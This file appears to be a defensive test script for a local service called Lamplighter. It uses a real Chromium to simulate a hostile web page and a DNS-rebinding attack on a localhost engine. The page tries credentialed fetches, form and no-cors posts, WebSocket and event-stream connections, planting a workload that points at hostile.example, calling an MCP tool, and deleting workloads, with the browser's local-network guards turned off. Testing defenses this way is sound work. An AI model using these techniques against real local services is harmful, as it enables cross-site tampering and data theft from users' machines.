#!/usr/bin/env node
// A web page that means harm, in a real Chromium: it tries to read, call and change Lamplighter on this machine, first
// as a page of another site, then under a name of its own that it let resolve to this machine (DNS rebinding).
//
//   hostile-page.mjs ENGINE NAME     http://127.0.0.1:4114 linear
//
// Environment: PATH, where `chromium` is found.
//
// Prints one line: {"control":200,"elsewhere":{"ATTEMPT":"OUTCOME",…},"rebound":{…}}. `control` is what the port answers
// to somebody who opens its health check in this browser. An outcome is `blocked` (the page learned nothing), `opaque`
// (something was sent, and the page saw nothing of the answer), or what the page could read.

import { existsSync } from 'node:fs';
import { delimiter, join } from 'node:path';
import { chromium } from 'playwright-core';

const [engine, name] = process.argv.slice(2);
if (!URL.canParse(engine ?? '') || !name) {
  console.error('no engine to attack\nhint: hostile-page.mjs http://127.0.0.1:4114 linear');
  process.exit(2);
}

const program = process.env.PATH.split(delimiter).map((folder) => join(folder, 'chromium')).find(existsSync);
if (!program) {
  console.error('there is no chromium to be attacked from\nhint: cargo xtask test installs it');
  process.exit(2);
}

const { port } = new URL(engine);
const elsewhere = 'http://hostile.example/';
const rebound = `http://hostile.example:${port}/`;

const browser = await chromium.launch({
  executablePath: program,
  args: [
    '--no-sandbox',
    '--disable-gpu',
    '--disable-background-networking',
    '--disable-component-update',
    '--disable-sync',
    // Every name is this machine: what a rebinding attack gets in the end.
    '--host-resolver-rules=MAP * 127.0.0.1',
    // The browser's own guard of local addresses is not what is tested here.
    '--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessRespectPreflightResults,BlockInsecurePrivateNetworkRequests',
  ],
});
const context = await browser.newContext();
const empty = { contentType: 'text/html', body: '<!doctype html><title>Free lamps</title>' };
await context.route((url) => url.href === elsewhere || url.href === rebound, (route) => route.fulfill(empty));

async function control() {
  const page = await context.newPage();
  const answer = await page.goto(`${engine}/healthz`);
  return answer.status();
}

async function attack(origin, target) {
  const page = await context.newPage();
  await page.goto(origin);
  return page.evaluate(attempts, { target, name });
}

// Runs in the page.
async function attempts({ target, name }) {
  const call = JSON.stringify({
    jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'echo', arguments: { text: 'from a web page' } },
  });
  const add = JSON.stringify({ name: 'planted', url: 'https://hostile.example/mcp' });
  const paths = {
    health: '/healthz',
    metrics: '/metrics',
    workloads: '/api/v1/workloads',
    events: '/api/v1/events',
    callback: '/callback?code=stolen&state=guessed',
    mcp: `/${name}/mcp`,
    page: '/index.html',
    exchange: '/signin',
  };
  const at = (path) => new URL(path, target).href;
  const outcomes = {};
  const attempt = async (what, action) => {
    const late = new Promise((resolve) => { setTimeout(resolve, 3000, 'blocked'); });
    outcomes[what] = await Promise.race([action().catch(() => 'blocked'), late]);
  };
  const ask = async (path, options) => {
    const answer = await fetch(at(path), { credentials: 'include', ...options });
    return answer.type.startsWith('opaque') ? 'opaque' : `${answer.status} ${(await answer.text()).slice(0, 200)}`;
  };
  // What an element of the page tells about something that it loads from there.
  const element = (tag, attributes) => new Promise((resolve) => {
    const made = Object.assign(document.createElement(tag), attributes);
    made.onload = () => {
      let seen = 'loaded';
      try { seen = tag === 'iframe' ? made.contentDocument?.body?.innerText ?? 'blocked' : seen; } catch { seen = 'blocked'; }
      resolve(seen);
    };
    made.onerror = () => resolve('blocked');
    document.body.append(made);
  });
  const form = async (path, enctype, field) => {
    const frame = `frame${document.forms.length}`;
    const shown = element('iframe', { name: frame });
    await shown;
    const sent = Object.assign(document.createElement('form'), { action: at(path), method: 'post', enctype, target: frame });
    sent.append(Object.assign(document.createElement('input'), { name: field, value: '' }));
    document.body.append(sent);
    const target = document.getElementsByName(frame)[0];
    const loaded = new Promise((resolve) => { target.onload = resolve; });
    sent.submit();
    await loaded;
    return target.contentDocument?.body?.innerText ?? 'blocked';
  };
  const socket = (path) => new Promise((resolve) => {
    const opened = new WebSocket(at(path).replace('http', 'ws'));
    opened.onopen = () => resolve('open');
    opened.onerror = () => resolve('blocked');
  });
  const events = () => new Promise((resolve) => {
    const source = new EventSource(at(paths.events), { withCredentials: true });
    source.onopen = () => resolve('open');
    source.onerror = () => { source.close(); resolve('blocked'); };
  });

  for (const [what, path] of Object.entries(paths)) {
    await attempt(`read ${what}`, () => ask(path));
    await attempt(`read ${what} without CORS`, () => ask(path, { mode: 'no-cors' }));
    await attempt(`read ${what} with a key`, () => ask(path, { headers: { authorization: 'Bearer guessed' } }));
    await attempt(`post to ${what}`, () => ask(path, { method: 'POST', body: call, headers: { 'content-type': 'application/json' } }));
    await attempt(`post text to ${what}`, () => ask(path, { method: 'POST', body: call, mode: 'no-cors' }));
    await attempt(`open a socket at ${what}`, () => socket(path));
    await attempt(`run ${what} as a script`, () => element('script', { src: at(path) }));
    await attempt(`show ${what} as a picture`, () => element('img', { src: at(path) }));
    await attempt(`show ${what} in a frame`, () => element('iframe', { src: at(path) }));
  }
  await attempt('listen to events', events);
  await attempt('add a workload', () => ask(paths.workloads, { method: 'POST', body: add, mode: 'no-cors' }));
  await attempt('add a workload by a form', () => form(paths.workloads, 'text/plain', add));
  await attempt('call a tool by a form', () => form(paths.mcp, 'text/plain', call));
  await attempt('sign out', () => ask(`${paths.workloads}/${name}/logout`, { method: 'POST', mode: 'no-cors' }));
  await attempt('remove', () => ask(`${paths.workloads}/${name}`, { method: 'DELETE' }));
  await attempt('send a beacon', async () => {
    navigator.sendBeacon(at(paths.mcp), call);
    return 'blocked';
  });
  await attempt('become a service worker', async () => {
    await navigator.serviceWorker.register(at(paths.health));
    return 'registered';
  });
  return outcomes;
}

try {
  const outcome = {
    control: await control(),
    elsewhere: await attack(elsewhere, engine),
    rebound: await attack(rebound, rebound),
  };
  console.log(JSON.stringify(outcome));
} finally {
  await browser.close();
}
